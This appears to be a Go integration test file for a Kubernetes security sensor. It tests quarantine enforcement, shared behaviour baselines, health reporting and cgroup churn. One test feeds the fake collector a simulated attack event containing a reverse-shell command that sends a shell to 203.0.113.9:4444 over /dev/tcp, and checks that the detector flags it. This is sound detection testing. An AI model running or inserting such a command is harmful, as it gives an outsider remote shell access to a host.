@@ -1,0 +1,462 @@
+// Package agenttest runs the sensor agent against a real kube-apiserver
+// (envtest), with fakes for the kernel parts and a TLS server standing in
+// for the manager.
+package agenttest
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"net/netip"
+	"os"
+	"slices"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/go-logr/logr/testr"
+	corev1 "k8s.io/api/core/v1"
+	discoveryv1 "k8s.io/api/discovery/v1"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/types"
+	"k8s.io/utils/ptr"
+	"sigs.k8s.io/controller-runtime/pkg/client"
+
+	securityv1alpha1 "github.com/bulkhead-dev/bulkhead/api/v1alpha1"
+	"github.com/bulkhead-dev/bulkhead/internal/behavior"
+	"github.com/bulkhead-dev/bulkhead/internal/behavior/kubestore"
+	"github.com/bulkhead-dev/bulkhead/internal/sensor"
+	"github.com/bulkhead-dev/bulkhead/internal/sensor/wire"
+	"github.com/bulkhead-dev/bulkhead/internal/testenv"
+)
+
+var env *testenv.Env
+
+const managerNS = "bulkhead-system"
+
+func TestMain(m *testing.M) {
+	e, err := testenv.Start(testenv.Options{})
+	if err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		os.Exit(1)
+	}
+	env = e
+	ctx := context.Background()
+	for _, ns := range []string{managerNS, "kube-system"} {
+		if err := env.Client.Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: ns}}); client.IgnoreAlreadyExists(err) != nil {
+			fmt.Fprintln(os.Stderr, err)
+			_ = env.Stop()
+			os.Exit(1)
+		}
+	}
+	code := m.Run()
+	_ = env.Stop()
+	os.Exit(code)
+}
+
+type rig struct {
+	coll  *fakeCollector
+	conts *fakeContainers
+	enf   *fakeEnforcer
+	agent *sensor.Agent
+	mgr   *fakeManager
+}
+
+// startAgent runs an agent for node until the test ends.
+func startAgent(t *testing.T, node string, mgr *fakeManager, conts *fakeContainers, tweak func(*sensor.Config, *sensor.Backends)) *rig {
+	t.Helper()
+	r := &rig{coll: newFakeCollector(), conts: conts, enf: newFakeEnforcer(), mgr: mgr}
+	cfg := sensor.Config{
+		Node: node, CgroupRoot: "/fake", ManagerNamespace: managerNS,
+		Behavior:     behavior.Config{LearningWindow: 3 * time.Second, SeqBits: 1 << 14},
+		ScanInterval: 100 * time.Millisecond, BatchInterval: 20 * time.Millisecond, SampleInterval: 100 * time.Millisecond,
+		FlushInterval: 300 * time.Millisecond, CollectorRetry: 100 * time.Millisecond, EnforceResync: 200 * time.Millisecond,
+	}
+	be := sensor.Backends{
+		NewCollector: func() (sensor.Collector, error) { return r.coll, nil },
+		SyscallName:  sysName, MaxSyscall: 110, Containers: conts, Enforcer: r.enf,
+	}
+	if tweak != nil {
+		tweak(&cfg, &be)
+	}
+	a, err := sensor.New(cfg, be, mgr.senderConfig(t), env.Config, testenv.Scheme, testr.NewWithOptions(t, testr.Options{Verbosity: 0}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	r.agent = a
+	ctx, cancel := context.WithCancel(context.Background())
+	done := make(chan error, 1)
+	go func() { done <- a.Run(ctx) }()
+	t.Cleanup(func() {
+		cancel()
+		if err := <-done; err != nil {
+			t.Errorf("agent: %v", err)
+		}
+	})
+	return r
+}
+
+func waitFor(t *testing.T, what string, cond func() bool) {
+	t.Helper()
+	deadline := time.Now().Add(30 * time.Second)
+	for !cond() {
+		if time.Now().After(deadline) {
+			t.Fatalf("timed out waiting for %s", what)
+		}
+		time.Sleep(25 * time.Millisecond)
+	}
+}
+
+func namespace(t *testing.T, name string) {
+	t.Helper()
+	if err := env.Client.Create(context.Background(), &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: name}}); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// runningPod creates a pod bound to node with one running container whose
+// runtime id is containerID; owner, when set, is its ReplicaSet.
+func runningPod(t *testing.T, ns, name, node, containerID, owner string, labels map[string]string) *corev1.Pod {
+	t.Helper()
+	ctx := context.Background()
+	p := &corev1.Pod{
+		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name, Labels: labels},
+		Spec:       corev1.PodSpec{NodeName: node, Containers: []corev1.Container{{Name: "app", Image: "registry.example/app:1"}}},
+	}
+	if owner != "" {
+		p.OwnerReferences = []metav1.OwnerReference{{APIVersion: "apps/v1", Kind: "ReplicaSet", Name: owner, UID: types.UID("rs-uid-" + owner), Controller: ptr.To(true)}}
+	}
+	if err := env.Client.Create(ctx, p); err != nil {
+		t.Fatal(err)
+	}
+	p.Status = corev1.PodStatus{Phase: corev1.PodRunning, ContainerStatuses: []corev1.ContainerStatus{{
+		Name: "app", Image: "registry.example/app:1", ContainerID: "containerd://" + containerID, Ready: true,
+		State: corev1.ContainerState{Running: &corev1.ContainerStateRunning{}},
+	}}}
+	if err := env.Client.Status().Update(ctx, p); err != nil {
+		t.Fatal(err)
+	}
+	return p
+}
+
+func TestEnforcementFollowsQuarantines(t *testing.T) {
+	ctx := context.Background()
+	ns := "sensor-enforce"
+	namespace(t, ns)
+	// The cluster DNS: a Service and an EndpointSlice with a ready and a not-ready address.
+	svc := &corev1.Service{ObjectMeta: metav1.ObjectMeta{Namespace: "kube-system", Name: "kube-dns", Labels: map[string]string{"k8s-app": "kube-dns"}},
+		Spec: corev1.ServiceSpec{ClusterIP: "10.0.0.10", Ports: []corev1.ServicePort{{Name: "dns", Port: 53, Protocol: corev1.ProtocolUDP}}}}
+	if err := env.Client.Create(ctx, svc); err != nil {
+		t.Fatal(err)
+	}
+	es := &discoveryv1.EndpointSlice{
+		ObjectMeta:  metav1.ObjectMeta{Namespace: "kube-system", Name: "kube-dns-x", Labels: map[string]string{discoveryv1.LabelServiceName: "kube-dns", "k8s-app": "kube-dns"}},
+		AddressType: discoveryv1.AddressTypeIPv4,
+		Endpoints: []discoveryv1.Endpoint{
+			{Addresses: []string{"10.244.0.5"}, Conditions: discoveryv1.EndpointConditions{Ready: ptr.To(true)}},
+			{Addresses: []string{"10.244.0.6"}, Conditions: discoveryv1.EndpointConditions{Ready: ptr.To(false)}},
+		},
+		Ports: []discoveryv1.EndpointPort{{Name: ptr.To("dns"), Port: ptr.To[int32](53), Protocol: ptr.To(corev1.ProtocolUDP)}},
+	}
+	if err := env.Client.Create(ctx, es); err != nil {
+		t.Fatal(err)
+	}
+
+	conts := &fakeContainers{}
+	mgr := newFakeManager(t)
+	here := runningPod(t, ns, "shop-1", "node-enf-a", "c-shop-1", "", nil)
+	there := runningPod(t, ns, "shop-2", "node-enf-b", "c-shop-2", "", nil)
+	conts.add(string(here.UID), "c-shop-1", 0)
+	conts.add(string(there.UID), "c-shop-2", 0) // visible on this host but not this node's pod
+	r := startAgent(t, "node-enf-a", mgr, conts, nil)
+	waitFor(t, "the start-up reconcile", func() bool { _, _, n := r.enf.state(); return n > 0 })
+
+	quarantine := func(name, target string, allowDNS bool, approved bool) *securityv1alpha1.Quarantine {
+		q := &securityv1alpha1.Quarantine{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name},
+			Spec: securityv1alpha1.QuarantineSpec{
+				Target:   securityv1alpha1.Target{Kind: securityv1alpha1.TargetPod, Name: target},
+				Actions:  []securityv1alpha1.Action{{Type: securityv1alpha1.ActionIsolate, Isolate: &securityv1alpha1.IsolateParams{AllowDNS: allowDNS}}},
+				Approved: ptr.To(approved),
+			}}
+		if err := env.Client.Create(ctx, q); err != nil {
+			t.Fatal(err)
+		}
+		return q
+	}
+	label := func(p *corev1.Pod, q string) {
+		t.Helper()
+		patch := client.MergeFrom(p.DeepCopy())
+		if p.Labels == nil {
+			p.Labels = map[string]string{}
+		}
+		if q == "" {
+			delete(p.Labels, securityv1alpha1.QuarantineLabel)
+		} else {
+			p.Labels[securityv1alpha1.QuarantineLabel] = q
+		}
+		if err := env.Client.Patch(ctx, p, patch); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	// An unapproved Quarantine isolates nothing; approval does.
+	q := quarantine("q-shop-1", "shop-1", true, false)
+	label(here, q.Name)
+	// The other node's pod is labelled too: never this sensor's business.
+	q2 := quarantine("q-shop-2", "shop-2", false, true)
+	label(there, q2.Name)
+	time.Sleep(500 * time.Millisecond) // a few resyncs: nothing may happen
+	if iso, calls, _ := r.enf.state(); len(iso) != 0 {
+		t.Fatalf("isolated %v (calls %v) before approval / for another node's pod", iso, calls)
+	}
+	qp := client.MergeFrom(q.DeepCopy())
+	q.Spec.Approved = ptr.To(true)
+	if err := env.Client.Patch(ctx, q, qp); err != nil {
+		t.Fatal(err)
+	}
+	path := "kubepods.slice/kubepods-pod" + string(here.UID) + ".slice"
+	waitFor(t, "Isolate on the pod cgroup", func() bool { iso, _, _ := r.enf.state(); _, ok := iso[path]; return ok })
+	iso, _, _ := r.enf.state()
+	want := []netip.AddrPort{netip.MustParseAddrPort("10.0.0.10:53"), netip.MustParseAddrPort("10.244.0.5:53")}
+	if o := iso[path]; !o.AllowDNS || !slices.Equal(o.DNS, want) || len(iso) != 1 {
+		t.Fatalf("isolated %v, want only %s with allowDNS and DNS %v", iso, path, want)
+	}
+	// The manager hears the enforcement state.
+	waitFor(t, "enforcement in a payload", func() bool {
+		for _, p := range mgr.received() {
+			for _, e := range p.Enforcement {
+				if e.Pod == "shop-1" && e.Quarantine == "q-shop-1" && e.Enforced && e.ConnCut && e.Method == "bpf_sock_destroy" && len(e.Programs) == 3 {
+					return true
+				}
+			}
+		}
+		return false
+	})
+
+	// Released: the kernel lets go even while the label is still on.
+	qp = client.MergeFrom(q.DeepCopy())
+	q.Spec.Released = ptr.To(true)
+	if err := env.Client.Patch(ctx, q, qp); err != nil {
+		t.Fatal(err)
+	}
+	waitFor(t, "Release after the Quarantine is released", func() bool { iso, _, _ := r.enf.state(); return len(iso) == 0 })
+
+	// A new Quarantine without allowDNS; then the label goes: Release.
+	q3 := quarantine("q-shop-1b", "shop-1", false, true)
+	label(here, q3.Name)
+	waitFor(t, "Isolate for the new Quarantine", func() bool { iso, _, _ := r.enf.state(); _, ok := iso[path]; return ok })
+	if iso, _, _ := r.enf.state(); iso[path].AllowDNS || len(iso[path].DNS) != 0 {
+		t.Fatalf("allowDNS false: got %+v", iso[path])
+	}
+	label(here, "")
+	waitFor(t, "Release after the label is removed", func() bool { iso, _, _ := r.enf.state(); return len(iso) == 0 })
+
+	// A deleted Quarantine releases too.
+	q4 := quarantine("q-shop-1c", "shop-1", false, true)
+	label(here, q4.Name)
+	waitFor(t, "Isolate for the third Quarantine", func() bool { iso, _, _ := r.enf.state(); _, ok := iso[path]; return ok })
+	if err := env.Client.Delete(ctx, q4); err != nil {
+		t.Fatal(err)
+	}
+	waitFor(t, "Release after the Quarantine is deleted", func() bool { iso, _, _ := r.enf.state(); return len(iso) == 0 })
+	_, calls, _ := r.enf.state()
+	for _, c := range calls {
+		if strings.Contains(c, string(there.UID)) {
+			t.Errorf("acted on the other node's pod: %v", calls)
+		}
+	}
+	waitFor(t, "an empty enforcement report", func() bool {
+		ps := mgr.received()
+		return len(ps) > 0 && len(ps[len(ps)-1].Enforcement) == 0
+	})
+}
+
+// Two sensors on two nodes learn one workload into one stored baseline;
+// after the window, a node scores against what the other learned, and an
+// attack scores high with the behaviour named.
+func TestSharedBaselineAcrossNodesThenAttack(t *testing.T) {
+	ctx := context.Background()
+	ns := "sensor-shared"
+	namespace(t, ns)
+	mgr := newFakeManager(t)
+	contsA, contsB := &fakeContainers{}, &fakeContainers{}
+	labels := map[string]string{"app": "web", "pod-template-hash": "7d9f"}
+	pa := runningPod(t, ns, "web-7d9f-a", "node-shared-a", "c-web-a", "web-7d9f", labels)
+	pb := runningPod(t, ns, "web-7d9f-b", "node-shared-b", "c-web-b", "web-7d9f", labels)
+	ca := contsA.add(string(pa.UID), "c-web-a", 0)
+	cb := contsB.add(string(pb.UID), "c-web-b", 0)
+	ra := startAgent(t, "node-shared-a", mgr, contsA, nil)
+	rb := startAgent(t, "node-shared-b", mgr, contsB, nil)
+	waitFor(t, "both containers tracked", func() bool { return ra.coll.isTracked(ca.ID) && rb.coll.isTracked(cb.ID) })
+
+	normal := map[sensor.Trigram]uint64{{0, 1, 3}: 500, {2, 0, 3}: 30}
+	ra.coll.setSyscalls(ca.ID, normal)
+	rb.coll.setSyscalls(cb.ID, normal)
+	send := func(r *rig, id uint64, evs ...sensor.Event) {
+		for _, ev := range evs {
+			ev.CgroupID, ev.Time = id, time.Now()
+			r.coll.in <- ev
+		}
+	}
+	nginx := &sensor.Exec{Binary: "/usr/sbin/nginx", Parent: "/usr/bin/containerd-shim-runc-v2", Args: []string{"nginx", "-g", "daemon off;"}}
+	db := &sensor.Conn{Addr: netip.MustParseAddr("10.96.5.5"), Port: 5432, Protocol: "TCP"}
+	cache := &sensor.Conn{Addr: netip.MustParseAddr("10.96.6.6"), Port: 6379, Protocol: "TCP"}
+	// Learning: node A sees the database, node B the cache.
+	for range 3 {
+		send(ra, ca.ID, sensor.Event{Exec: nginx}, sensor.Event{Conn: db})
+		send(rb, cb.ID, sensor.Event{Exec: nginx}, sensor.Event{Conn: cache})
+		time.Sleep(200 * time.Millisecond)
+	}
+	key := behavior.Key{Namespace: ns, Owner: "Deployment/web", TemplateHash: "7d9f"}
+	var stored *behavior.Baseline
+	waitFor(t, "one stored baseline holding both nodes' learning", func() bool {
+		var cm corev1.ConfigMap
+		if err := env.Client.Get(ctx, client.ObjectKey{Namespace: managerNS, Name: kubestore.Name(key)}, &cm); err != nil {
+			return false
+		}
+		b := &behavior.Baseline{}
+		if b.UnmarshalBinary(cm.BinaryData[kubestore.DataKey]) != nil {
+			return false
+		}
+		stored = b
+		return b.Net.Dests.Has("10.96.5.5:TCP/5432") && b.Net.Dests.Has("10.96.6.6:TCP/6379") && b.Exec.Binaries.Has("/usr/sbin/nginx")
+	})
+	// The manager's reader sees exactly one baseline for the workload.
+	all, err := (&kubestore.Store{Client: env.Client, Reader: env.Client, Namespace: managerNS}).Load(ctx, ns, "Deployment/web")
+	if err != nil || len(all) != 1 || all[0].Key != key {
+		t.Fatalf("kubestore.Load: %v (%v), want the one baseline %v", all, err, key)
+	}
+	data, _ := stored.MarshalBinary()
+	t.Logf("shared baseline %s: %d bytes stored (SeqBits %d)", key, len(data), 1<<14)
+
+	// After the window (and the reload that follows it), node B scores
+	// against the merged model: A's database is normal for B's pod.
+	end := stored.Started.Add(stored.Window)
+	time.Sleep(time.Until(end) + time.Second)
+	scoreOf := func(pod string, ok func(wire.Score) bool) *wire.Score {
+		for _, p := range mgr.received() {
+			for _, s := range p.Scores {
+				if s.Pod == pod && ok(s) {
+					return &s
+				}
+			}
+		}
+		return nil
+	}
+	for range 3 {
+		send(rb, cb.ID, sensor.Event{Exec: nginx}, sensor.Event{Conn: db}, sensor.Event{Conn: cache})
+		time.Sleep(200 * time.Millisecond)
+	}
+	// Scored (a first score is always sent), and nothing high: a score only
+	// goes out again when it changes by 0.05 or crosses 0.5.
+	waitFor(t, "node B scoring after learning", func() bool {
+		return scoreOf(pb.Name, func(wire.Score) bool { return true }) != nil
+	})
+	time.Sleep(time.Second) // many batches and samples
+	if s := scoreOf(pb.Name, func(s wire.Score) bool { return s.Score >= 0.5 }); s != nil {
+		t.Fatalf("normal behaviour learned on the other node scored %v: %s %s", s.Score, s.Reason, s.Evidence)
+	}
+
+	// The attack on node B: a shell from the server, a new destination, new syscalls.
+	rb.coll.setSyscalls(cb.ID, map[sensor.Trigram]uint64{{0, 1, 3}: 500, {41, 42, 33}: 3, {33, 33, 59}: 2, {101, 101, 101}: 9})
+	send(rb, cb.ID,
+		sensor.Event{Exec: &sensor.Exec{Binary: "/bin/sh", Parent: "/usr/sbin/nginx", Args: []string{"sh", "-c", "sh -i >& /dev/tcp/203.0.113.9/4444 0>&1"}}},
+		sensor.Event{Conn: &sensor.Conn{Addr: netip.MustParseAddr("203.0.113.9"), Port: 4444, Protocol: "TCP"}})
+	var hit *wire.Score
+	waitFor(t, "the attack's score", func() bool {
+		hit = scoreOf(pb.Name, func(s wire.Score) bool { return s.Score >= 0.8 })
+		return hit != nil
+	})
+	if !strings.Contains(hit.Reason, "/bin/sh") || !strings.Contains(hit.Reason, "nginx") ||
+		!strings.Contains(string(hit.Evidence), "203.0.113.9") || len(hit.Evidence) > wire.MaxEvidenceBytes ||
+		!strings.HasPrefix(hit.ID, "node-shared-b/"+string(pb.UID)+"/") {
+		t.Fatalf("attack score %+v evidence %s", hit, hit.Evidence)
+	}
+	t.Logf("attack: score %.2f, reason %q", hit.Score, hit.Reason)
+}
+
+// Behaviour collection unavailable: the sensor stays up, says what is
+// missing, and recovers when the collector can start.
+func TestCollectorUnavailableIsVisible(t *testing.T) {
+	mgr := newFakeManager(t)
+	var fail atomic.Bool
+	fail.Store(true)
+	r := startAgent(t, "node-nobpf", mgr, &fakeContainers{}, func(c *sensor.Config, be *sensor.Backends) {
+		c.HealthAddr, c.MetricsAddr = "127.0.0.1:0", ""
+		c.CollectorRetry = 300 * time.Millisecond
+		coll := newFakeCollector()
+		be.NewCollector = func() (sensor.Collector, error) {
+			if fail.Load() {
+				return nil, &sensor.UnavailableError{Missing: "BTF (/sys/kernel/btf/vmlinux)", Err: errors.New("no such file")}
+			}
+			return coll, nil
+		}
+	})
+	gauge := func() float64 {
+		mfs, err := r.agent.Registry().Gather()
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, mf := range mfs {
+			if mf.GetName() == "bulkhead_sensor_bpf_available" {
+				return mf.GetMetric()[0].GetGauge().GetValue()
+			}
+		}
+		return -1
+	}
+	waitFor(t, "a heartbeat saying what is missing", func() bool {
+		for _, p := range mgr.received() {
+			if p.Heartbeat && !p.Coverage.Ready && strings.Contains(p.Coverage.Missing, "BTF") {
+				return true
+			}
+		}
+		return false
+	})
+	if err := r.agent.Ready(); err == nil || !strings.Contains(err.Error(), "BTF") {
+		t.Fatalf("ready: %v, want not ready naming BTF", err)
+	}
+	if g := gauge(); g != 0 {
+		t.Fatalf("bulkhead_sensor_bpf_available = %v, want 0", g)
+	}
+	fail.Store(false)
+	waitFor(t, "ready after the collector starts", func() bool { return r.agent.Ready() == nil })
+	if g := gauge(); g != 1 {
+		t.Fatalf("bulkhead_sensor_bpf_available = %v, want 1", g)
+	}
+	waitFor(t, "a ready heartbeat", func() bool {
+		ps := mgr.received()
+		return len(ps) > 0 && ps[len(ps)-1].Coverage.Ready
+	})
+}
+
+// Pods that vanish and cgroups recreated at the same path are untracked, and
+// their late events dropped.
+func TestVanishedPodsAndReusedCgroups(t *testing.T) {
+	ctx := context.Background()
+	ns := "sensor-churn"
+	namespace(t, ns)
+	mgr := newFakeManager(t)
+	conts := &fakeContainers{}
+	p := runningPod(t, ns, "churn-1", "node-churn", "c-churn", "", nil)
+	c0 := conts.add(string(p.UID), "c-churn", 0)
+	r := startAgent(t, "node-churn", mgr, conts, nil)
+	waitFor(t, "tracked", func() bool { return r.coll.isTracked(c0.ID) })
+	c1 := conts.add(string(p.UID), "c-churn", 1) // restarted container: same path, new cgroup
+	waitFor(t, "the new cgroup tracked, the old one not", func() bool { return r.coll.isTracked(c1.ID) && !r.coll.isTracked(c0.ID) })
+	r.coll.in <- sensor.Event{CgroupID: c0.ID, Time: time.Now(), Exec: &sensor.Exec{Binary: "/bin/late"}}
+	if err := env.Client.Delete(ctx, p, client.GracePeriodSeconds(0)); err != nil {
+		t.Fatal(err)
+	}
+	waitFor(t, "the deleted pod's cgroup untracked", func() bool { return !r.coll.isTracked(c1.ID) })
+	r.coll.in <- sensor.Event{CgroupID: c1.ID, Time: time.Now(), Exec: &sensor.Exec{Binary: "/bin/late"}}
+	waitFor(t, "late events counted as untracked", func() bool {
+		mfs, _ := r.agent.Registry().Gather()
+		for _, mf := range mfs {
+			if mf.GetName() == "bulkhead_sensor_untracked_events_total" {
+				return mf.GetMetric()[0].GetCounter().GetValue() >= 2
+			}
+		}
+		return false
+	})
+}
